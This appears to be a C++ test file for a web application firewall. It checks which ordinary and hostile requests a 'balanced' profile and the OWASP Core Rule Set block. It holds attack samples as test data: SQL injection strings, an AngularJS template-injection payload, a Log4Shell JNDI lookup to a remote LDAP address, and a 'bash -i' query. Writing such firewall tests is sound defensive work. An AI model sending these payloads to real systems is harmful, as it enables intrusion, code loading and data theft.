// The `waf.profile` key in the real binary with the installed OWASP CRS (skipped without
// /usr/share/modsecurity-crs): `balanced` (the default) against `crs` on the requests that tell
// them apart — ordinary API traffic CRS refuses, GraphQL documents, the precise rules above
// paranoia 1, and the signature packs the profile brings. How the profile was measured is in
// docs/detection.md.

#include <gtest/gtest.h>

#include <optional>
#include <string>
#include <utility>
#include <vector>

#include "support/attack_records.h"
#include "support/client.h"
#include "support/json.h"
#include "support/log_file.h"
#include "support/proxy_fixture.h"

namespace rampart::test {
namespace {

constexpr char kHost[] = "shop.example";  // CRS scores a numeric Host (920350)

// A GraphQL document as browsers' GraphQL clients send it: braces, `$variables`, newlines and
// `__typename`, which CRS 932100 reads as a Unix command at paranoia 1.
std::string GraphqlBody(const std::string& board_id) {
  return "{\"operationName\":\"Board\",\"query\":\"query Board($id: ID!) {\\n  board(id: $id) "
         "{\\n    id\\n    columns {\\n      id\\n      __typename\\n    }\\n    "
         "__typename\\n  }\\n}\",\"variables\":{\"id\":\"" +
         board_id + "\"}}";
}

class WafProfileTest : public ProxyTest {
 protected:
  std::string AttackLogPath() const { return rampart_.dir() + "/attack.log"; }
  std::string AccessLogPath() const { return rampart_.dir() + "/access.log"; }

  // Starts rampart with this `waf` map (once per test).
  void Start(const std::string& waf) {
    ConfigOptions options;
    options.backend_ports = {origin_.port()};
    options.route_lines = {"waf: " + waf};
    options.extra = "  attack_log: " + AttackLogPath() + "\n";  // continues logging:
    ASSERT_NO_FATAL_FAILURE(StartRampart(options));
  }

  // One request on a fresh connection; waits for its access-log line, so that the attack log
  // (written before it) holds its record when there is one.
  int Status(const std::string& method, const std::string& target, HeaderList headers = {},
             const std::string& body = "") {
    headers.insert(headers.begin(), {"Host", kHost});
    headers.emplace_back("Connection", "close");
    Client c;
    if (!c.Connect(port())) {
      ADD_FAILURE() << "connect: " << c.error();
      return 0;
    }
    auto r = c.Request(method, target, headers, body);
    if (!r) {
      ADD_FAILURE() << method << " " << target << ": " << c.error();
      return 0;
    }
    ++requests_;
    EXPECT_EQ(WaitForFileLines(AccessLogPath(), requests_).size(), requests_);
    return r->status;
  }

  // Every rule id of every attack-log record so far.
  std::vector<std::string> LoggedRules() {
    std::vector<std::string> ids;
    for (const std::string& line : WaitForFileLines(AttackLogPath(), 0, Timeout(0))) {
      auto json = ParseJson(line);
      if (!json) continue;
      for (std::string& id : RuleIds(*json)) ids.push_back(std::move(id));
    }
    return ids;
  }
  bool Logged(const std::string& id) {
    for (const std::string& r : LoggedRules()) {
      if (r == id) return true;
    }
    return false;
  }

  size_t requests_ = 0;
};

// A CSP violation report and a JSON merge patch.
const HeaderList kReport = {{"Content-Type", "application/csp-report"}};
constexpr char kViolation[] =
    "{\"csp-report\":{\"document-uri\":\"https://shop.example/cart\",\"violated-directive\":"
    "\"img-src\",\"blocked-uri\":\"https://cdn.other.example/pixel.gif\"}}";
const HeaderList kPatch = {{"Content-Type", "application/merge-patch+json"}};

TEST_F(WafProfileTest, CrsRefusesOrdinaryApiTraffic) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block, profile: crs}"));
  EXPECT_EQ(Status("POST", "/csp", kReport, kViolation), 403);  // 920420: type not allowed
  EXPECT_EQ(Status("PATCH", "/api/tasks/7", kPatch, "{\"done\":true}"), 403);  // 911100
  EXPECT_EQ(origin_.RequestCount(), 0u);
  EXPECT_TRUE(Logged("920420"));
  EXPECT_TRUE(Logged("911100"));
}

TEST_F(WafProfileTest, BalancedLetsThroughOrdinaryApiTrafficThatCrsRefuses) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block}"));  // balanced, the default
  EXPECT_EQ(Status("POST", "/csp", kReport, kViolation), 200);
  EXPECT_EQ(Status("PATCH", "/api/tasks/7", kPatch, "{\"done\":true}"), 200);
  EXPECT_EQ(origin_.RequestCount(), 2u);
  // Both bodies are still parsed and inspected: an attack in either is refused.
  EXPECT_EQ(Status("PATCH", "/api/tasks/7", kPatch, "{\"title\":\"1' OR 1=1--\"}"), 403);
  EXPECT_EQ(Status("POST", "/csp", kReport, "{\"csp-report\":{\"document-uri\":\"1' OR 1=1--\"}}"),
            403);
  // A type no processor reads stays refused: its body would reach the backend uninspected.
  EXPECT_EQ(Status("POST", "/api/items", {{"Content-Type", "text/plain"}},
                   "{\"id\":\"1' union select password from users--\"}"),
            403);
  EXPECT_TRUE(Logged("920420"));
  EXPECT_EQ(origin_.RequestCount(), 2u);
}

TEST_F(WafProfileTest, CrsRefusesAGraphqlDocument) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block, profile: crs}"));
  EXPECT_EQ(Status("POST", "/graphql", {{"Content-Type", "application/json"}}, GraphqlBody("b1")),
            403);
  EXPECT_TRUE(Logged("932100"));
}

TEST_F(WafProfileTest, BalancedExemptsGraphqlDocumentsButStillInspectsTheirVariables) {
  REQUIRE_CRS();
  const HeaderList json = {{"Content-Type", "application/json"}};
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block}"));
  EXPECT_EQ(Status("POST", "/graphql", json, GraphqlBody("b1")), 200);
  EXPECT_EQ(origin_.RequestCount(), 1u);
  EXPECT_EQ(Status("POST", "/graphql", json, GraphqlBody("1' OR 1=1--")), 403);
  EXPECT_EQ(Status("POST", "/api/graphql", json, "{\"query\":\"{ user(id: 1) { name } }\"}"), 200);
  EXPECT_EQ(origin_.RequestCount(), 2u);
  // Only the GraphQL endpoint's document is exempt: the same text elsewhere is not, nor on a
  // path that merely ends in /graphql (PHP runs /search.php/graphql as search.php).
  EXPECT_EQ(Status("POST", "/api/search", json, GraphqlBody("b1")), 403);
  EXPECT_EQ(Status("GET", "/search.php/graphql?query=%3Bbash%20-i"), 403);
  EXPECT_EQ(origin_.RequestCount(), 2u);
}

// An off-site link in an argument: CRS 931130 (paranoia 2) calls it remote file inclusion.
constexpr char kLink[] = "/share?url=https%3A%2F%2Fnews.example.org%2Fstory";
// AngularJS template injection: 941380 (paranoia 2), one of the profile's precise rules.
constexpr char kCsti[] = "/search?q=%7B%7Bconstructor.constructor(%27alert(1)%27)()%7D%7D";

TEST_F(WafProfileTest, AParanoiaAskedForRunsEveryRuleOfThatLevel) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block, paranoia: 2}"));
  EXPECT_EQ(Status("GET", kLink), 403);
  EXPECT_TRUE(Logged("931130"));
}

TEST_F(WafProfileTest, BalancedRunsOnlyItsPreciseRulesAboveParanoiaOne) {
  REQUIRE_CRS();
  // An off-site link in an argument: CRS 931130 (paranoia 2) calls it remote file inclusion.
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block}"));
  EXPECT_EQ(Status("GET", kLink), 200);
  EXPECT_EQ(Status("GET", kCsti), 403);
  EXPECT_TRUE(Logged("941380"));
  EXPECT_FALSE(Logged("931130"));
}

// A Log4Shell lookup in a header CRS 3.3 does not read at paranoia 1.
const HeaderList kLog4Shell = {{"X-Api-Version", "${jndi:ldap://198.51.100.7:1389/a}"}};

TEST_F(WafProfileTest, CrsAloneMissesALog4ShellHeader) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block, profile: crs}"));
  EXPECT_EQ(Status("GET", "/", kLog4Shell), 200);
}

TEST_F(WafProfileTest, DetectModeRefusesNothingEvenWithTheProfile) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: detect}"));
  EXPECT_EQ(Status("GET", "/", kLog4Shell), 200);
  EXPECT_EQ(Status("GET", "/?id=1%27%20OR%201%3D1--"), 200);
  EXPECT_TRUE(Logged("942100"));  // detected, logged
  EXPECT_EQ(origin_.RequestCount(), 2u);
}

TEST_F(WafProfileTest, TheScopeExemptionTakesOnlyOAuthScopes) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block}"));
  EXPECT_EQ(Status("GET",
                   "/oauth/authorize?client_id=app&scope=openid%20email%20"
                   "https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fuserinfo.profile"),
            200);
  EXPECT_EQ(Status("GET", "/file?scope=.htaccess"), 403);  // 930120 still reads it
  EXPECT_TRUE(Logged("930120"));
}

TEST_F(WafProfileTest, BalancedBringsTheSignaturePacks) {
  REQUIRE_CRS();
  const HeaderList& log4shell = kLog4Shell;
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block}"));
  EXPECT_EQ(Status("GET", "/", log4shell), 403);
  auto lines = WaitForFileLines(AttackLogPath(), 1);
  ASSERT_FALSE(lines.empty());
  auto record = ParseJson(lines.back());
  ASSERT_TRUE(record);
  EXPECT_EQ(record->StringAt("source"), "signatures") << lines.back();
}

}  // namespace
}  // namespace rampart::test
